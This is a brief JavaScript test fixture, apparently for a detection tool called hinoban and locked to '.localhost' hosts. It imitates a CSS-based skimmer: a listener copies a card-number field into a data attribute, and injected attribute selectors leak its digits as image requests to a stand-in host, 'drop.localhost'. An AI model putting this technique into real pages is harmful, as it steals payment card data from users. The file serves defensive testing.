/* Harmless imitation, for hinoban's tests: a stylesheet that tells what the field holds, by selectors. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
(function () {
	var st = document.createElement('style');
	for (var i = 0; i < 100; i++) st.textContent += "input[data-v$='" + ('0' + i).slice(-2) + "'] { background-image: url(" + 'http://drop.localhost:' + location.port + '/k.gif?' + (99 - i) + ') }';
	document.head.appendChild(st);
	document.addEventListener('input', function (e) { if (e.target.autocomplete === 'cc-number' && e.target.value.length % 2 === 0) e.target.dataset.v = e.target.value; });
})();
